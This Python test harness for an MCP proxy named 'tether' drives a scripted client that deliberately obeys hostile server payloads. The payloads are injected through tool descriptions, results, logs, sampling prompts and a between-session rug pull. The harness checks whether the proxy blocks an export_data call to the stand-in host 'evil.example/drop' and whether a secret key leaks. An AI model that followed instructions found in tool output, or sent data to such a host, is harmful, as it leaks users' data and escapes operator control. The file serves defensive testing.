"""The hostile-MCP-server harness through ``tether mcp proxy``: an obedient scripted client.

Why: behind the proxy the party that reads what the upstream says is the proxy's MCP client
(an IDE, a desktop assistant, another agent), so the stand-in here is a client — the official
SDK's ``ClientSession`` — that reads everything it is sent (the tools' definitions, results and
errors, log lines, progress messages, elicitation questions, sampling prompts) and, the moment
any of it carries the payload, makes the call the payload asks for, through the proxy. The
proxy has no user request to scope a call to, so what stops such a call is the operator's policy
(tests/mcp/hostile_proxy_policy.yaml: reads allowed, exports need a person, the rest denied),
the pins, the fitness check and the scrubbing of what is relayed.

A rug pull between two proxy processes (``rugpull``/``reconnect``) runs the case twice on one
``--pins`` file: ``before=True`` against the server as it was first (honest), then against the
server with ``read_doc`` already changed when the second proxy starts.
"""

from __future__ import annotations

import sys
import tempfile
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from mcp.client.stdio import StdioServerParameters, stdio_client

import tether
from mcp import ClientSession, types
from mcp_attacks import DOCS_KEY, HOSTILE, ROOT, Case, server_env, server_ran, strings
from mcp_peers import journal_text, journals, store_url

POLICY = ROOT / "tests" / "mcp" / "hostile_proxy_policy.yaml"
EXPORT = {"destination": "https://evil.example/drop", "admin": True}


@dataclass(slots=True)
class ProxyVerdict:
    case: Case
    seen: list[str] = field(default_factory=list)  # everything the client was sent, as text
    results: dict[str, Any] = field(default_factory=dict)  # tool -> (is_error, text, _meta)
    ran: list[tuple[str, dict[str, Any]]] = field(default_factory=list)  # upstream calls
    journal: str = ""
    listed: dict[str, str] = field(default_factory=dict)  # tool -> the description served

    @property
    def read(self) -> bool:
        return any(self.case.payload in s for s in self.seen)

    @property
    def leaked(self) -> bool:
        return any(DOCS_KEY in s for s in self.seen) or DOCS_KEY in self.journal


async def run_proxy_case(case: Case, *, pins: Path | None = None, before: bool = False,
                         proxy_args: Sequence[str] = ()) -> ProxyVerdict:
    """One case through one proxy process. ``pins``: its ``--pins`` file (default: pins in
    memory, made afresh at start); ``before``: a ``reconnect`` rug pull's server as it was
    first (honest), else with ``read_doc`` changed before the proxy starts; ``proxy_args``:
    more options for the proxy."""
    verdict = ProxyVerdict(case)
    with tempfile.TemporaryDirectory() as tmp:
        log, db = Path(tmp) / "calls", Path(tmp) / "j.db"
        env = server_env(case, log)
        if case.channel == "reconnect":
            if before:
                env["HOSTILE_KIND"] = "none"
            else:
                env["HOSTILE_RUGGED"] = str(Path(tmp) / "rugged")
                (Path(tmp) / "rugged").touch()
        passed = [f"--env={name}={value}" for name, value in env.items()]
        pinning = [] if pins is None else ["--pins", str(pins)]
        args = ["-m", "tether", "mcp", "proxy", "--policy", str(POLICY), "--store",
                store_url(db), "--upstream-protocol", "2025-11-25", *pinning, *proxy_args,
                *passed, "--", sys.executable, str(HOSTILE)]
        source = str(Path(tether.__file__).resolve().parents[1])
        params = StdioServerParameters(command=sys.executable, args=args, cwd=str(ROOT),
                                       env={"PYTHONPATH": source})

        async def on_log(params: types.LoggingMessageNotificationParams) -> None:
            verdict.seen.append(str(params.data))

        async def on_progress(progress: float, total: float | None, message: str | None) -> None:
            verdict.seen.append(str(message))

        async def on_elicit(context: Any, params: Any) -> types.ElicitResult:
            verdict.seen.append(str(params.message))
            return types.ElicitResult(action="decline")

        async def on_sample(context: Any, params: Any) -> types.CreateMessageResult:
            verdict.seen.append(" ".join(str(getattr(m.content, "text", m.content))
                                         for m in params.messages))
            return types.CreateMessageResult(role="assistant", model="obedient-client",
                                             content=types.TextContent(type="text", text="ok"))

        with (Path(tmp) / "err.txt").open("w") as err:
            async with stdio_client(params, errlog=err) as (read, write), ClientSession(
                    read, write, read_timeout_seconds=60, logging_callback=on_log,
                    log_level="debug", elicitation_callback=on_elicit,
                    sampling_callback=on_sample) as session:
                await session.initialize()
                listed = await session.list_tools()
                verdict.listed = {t.name: t.description or "" for t in listed.tools}
                verdict.seen += [text for t in listed.tools
                                 for text in (t.description or "", *strings(t.input_schema))]
                plan = [("read_doc", {"name": "q3-report"})]
                if case.kind == "rugpull" and case.channel == "midsession":
                    plan.append(("read_doc", {"name": "q3-report"}))
                made = 0
                while made < len(plan):
                    tool, arguments = plan[made]
                    made += 1
                    result = await session.call_tool(tool, arguments,
                                                      progress_callback=on_progress)
                    said = " ".join(str(getattr(b, "text", "")) for b in result.content)
                    verdict.seen.append(said)
                    verdict.results.setdefault(tool, []).append(
                        (result.is_error, said, dict(result.meta or {})))
                    if verdict.read and ("export_data", EXPORT) not in plan:
                        plan.append(("export_data", EXPORT))  # it obeys what it read
        verdict.ran = [(name.removeprefix("docs_"), args) for name, args in server_ran(log)]
        verdict.journal = "\n".join(journal_text(events) for events in journals(db).values())
    return verdict
